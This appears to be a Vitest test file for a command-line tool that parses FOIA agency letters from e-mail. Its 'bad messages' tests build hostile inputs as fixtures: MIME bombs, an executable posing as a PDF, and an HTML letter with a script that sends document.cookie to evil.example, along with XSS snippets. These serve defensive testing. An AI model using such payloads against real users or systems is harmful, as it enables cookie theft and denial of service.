/**
 * Letters by e-mail: the `letter --parse` command as a user runs it, and messages that must be
 * refused or kept as unrecognised (a MIME bomb, a 25 MB message, a PDF that is not one, a day
 * that does not exist, HTML with scripts).
 */
import { spawnSync } from 'node:child_process';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { LetterDateError } from '../../../core/letters';
import { MailRefusedError, parseMessage } from '../../../functions/lib/mail-parse';
import { readMail } from '../../../functions/lib/mail-read';
import { letterPdf, letterText, rawMail } from '../../support/mail';

const ROOT = join(import.meta.dirname, '..', '..', '..');
const letterCli = (input: Buffer) => spawnSync('npm', ['run', '--silent', 'letter', '--', '--parse'], { cwd: ROOT, input, encoding: 'utf8', maxBuffer: 64 * 1024 * 1024 });
const lines = (out: string) => out.split('\n').filter(Boolean).map((l) => JSON.parse(l) as Record<string, unknown>);

describe('npm run letter -- --parse', () => {
  it('prints one JSON line per event of a letter in the body, with exactly the documented keys', () => {
    const run = letterCli(rawMail({ from: 'ICE FOIA <ice-foia@ice.dhs.gov>', text: letterText('ice-ack-extension.txt') }));
    expect(run.status).toBe(0);
    expect(lines(run.stdout)).toEqual([
      { type: 'acknowledged', at: '2025-10-20', trackingNumber: '2026-ICFO-01234', agency: 'ICE', evidence: 'ICE has assigned reference number 2026-ICFO-01234 to your request.' },
      { type: 'received', at: '2025-10-15', agency: 'ICE', evidence: 'Your request was received in this office on October 15, 2025.' },
      { type: 'extension_notice', at: '2025-10-20', workingDays: 10, agency: 'ICE', evidence: expect.stringContaining('ICE will invoke a 10-day extension for your request') },
    ]);
  });

  it('reads the letter from a PDF attached to a forwarded one-line e-mail, dated by the forwarded message', async () => {
    const pdf = await letterPdf(letterText('irs-denial.txt').replace('February 11, 2026\n', ''));
    const text = 'FYI, see attached.\n\n---------- Forwarded message ---------\nFrom: IRS Disclosure <disclosure@irs.gov>\nDate: Wed, 11 Feb 2026 at 10:14\nSubject: Your FOIA request F26063-0042\n\nPlease see the attached letter.\n';
    const run = letterCli(rawMail({ from: 'Dana Whitfield <dana@whitfield.example>', date: 'Thu, 12 Feb 2026 08:00:00 -0500', text, pdf: { filename: 'F26063-0042 final.pdf', bytes: pdf } }));
    expect(run.status).toBe(0);
    expect(lines(run.stdout)).toEqual([
      { type: 'received', at: '2025-10-03', agency: 'IRS', evidence: expect.stringContaining('that we received on October 3, 2025') },
      { type: 'determination', at: '2026-02-11', outcome: 'denial', agency: 'IRS', evidence: expect.stringContaining('We are withholding them in full') },
    ]);
  });

  it('prints nothing for a message that is not an agency letter, and says why on standard error', () => {
    const run = letterCli(rawMail({ from: 'news@litigators.example', subject: 'December bulletin', text: letterText('bar-newsletter.txt') }));
    expect(run.status).toBe(0);
    expect(run.stdout).toBe('');
    expect(run.stderr).toMatch(/not read: neither a court notice nor an agency letter/);
  });

  it('refuses a 25 MB message without reading it', () => {
    const big = Buffer.concat([rawMail({ text: 'x' }), Buffer.alloc(25 * 1024 * 1024, 'a')]);
    const run = letterCli(big);
    expect(run.status).toBe(2);
    expect(run.stdout).toBe('');
    expect(run.stderr).toMatch(/refused: the message is \d+ bytes; at most 10485760/);
  });

  it('refuses a letter with a day that does not exist, printing no event', () => {
    const run = letterCli(rawMail({ text: letterText('ice-impossible-date.txt') }));
    // Nothing half-written: the refusal comes before any line is printed.
    expect(run.status).toBe(2);
    expect(run.stdout).toBe('');
    expect(run.stderr).toMatch(/refused: the letter names a date that does not exist: "February 30, 2026"/);
  });
});

describe('bad messages', () => {
  it('refuses a MIME bomb of thousands of parts before parsing it', async () => {
    const b = 'bomb';
    const parts = Array.from({ length: 3000 }, (_, i) => `--${b}\r\nContent-Type: text/plain\r\n\r\npart ${i}\r\n`).join('');
    const raw = Buffer.from(`From: a@b.example\r\nSubject: x\r\nContent-Type: multipart/mixed; boundary="${b}"\r\n\r\n${parts}--${b}--\r\n`);
    await expect(parseMessage(raw)).rejects.toThrow(MailRefusedError);
    await expect(parseMessage(raw)).rejects.toThrow(/3001 MIME parts/);
  });

  it('refuses a MIME bomb nested deep', async () => {
    let body = 'Content-Type: text/plain\r\n\r\ninnermost\r\n';
    for (let i = 0; i < 40; i++) body = `Content-Type: multipart/mixed; boundary="n${i}"\r\n\r\n--n${i}\r\n${body}--n${i}--\r\n`;
    await expect(parseMessage(Buffer.from(`From: a@b.example\r\nSubject: x\r\n${body}`))).rejects.toThrow(/nests 40 multipart containers/);
  });

  it('keeps a PDF that is not one as unrecognised, with the reason', async () => {
    const raw = rawMail({ text: 'Please see the attached letter.', pdf: { filename: 'letter.pdf', bytes: Buffer.from('MZ\x90\x00 this is an executable, not a letter') } });
    const read = await readMail(raw, '2026-03-10');
    expect(read).toMatchObject({ kind: 'unrecognised', reason: expect.stringContaining('letter.pdf: the attachment is not a PDF (no %PDF- header)') });
  });

  it('keeps a broken PDF as unrecognised, with the reason', async () => {
    const raw = rawMail({ text: 'See attached.', pdf: { filename: 'letter.pdf', bytes: Buffer.from('%PDF-1.7\n1 0 obj << /Type /Catalog >> garbage') } });
    const read = await readMail(raw, '2026-03-10');
    expect(read).toMatchObject({ kind: 'unrecognised', reason: expect.stringContaining('letter.pdf: the PDF') });
  });

  it('reads an HTML letter as text: its scripts are dropped, never run, and do not reach the evidence', async () => {
    const html = `<html><head><script>fetch('https://evil.example/'+document.cookie)</script></head><body><p>U.S. Department of Homeland Security</p><p>November 12, 2025</p><p>This acknowledges receipt of your FOIA request. <script>alert(1)</script>It has been assigned tracking number 2025-HQFO-00790.</p><img src=x onerror="alert(2)"></body></html>`;
    const read = await readMail(rawMail({ from: 'foia@hq.dhs.gov', html }), '2026-03-10');
    expect(read.kind).toBe('letter');
    if (read.kind !== 'letter') return;
    expect(read.message.html).toBe(true);
    expect(read.letter.events).toEqual([{ type: 'acknowledged', at: '2025-11-12', trackingNumber: '2025-HQFO-00790', agency: 'DHS', evidence: 'It has been assigned tracking number 2025-HQFO-00790.' }]);
    expect(JSON.stringify(read.letter)).not.toMatch(/script|alert|onerror/);
  });

  it('throws LetterDateError for a day that does not exist in a PDF letter', async () => {
    const raw = rawMail({ text: 'Attached.', pdf: { filename: 'a.pdf', bytes: await letterPdf(letterText('ice-impossible-date.txt')) } });
    await expect(readMail(raw, '2026-03-10')).rejects.toThrow(LetterDateError);
  });

  it('refuses what is not an e-mail message at all', async () => {
    await expect(parseMessage(Buffer.from('\x00\x01\x02 binary'))).rejects.toThrow(/not an e-mail message/);
    await expect(parseMessage(Buffer.alloc(0))).rejects.toThrow(/empty/);
  });
});
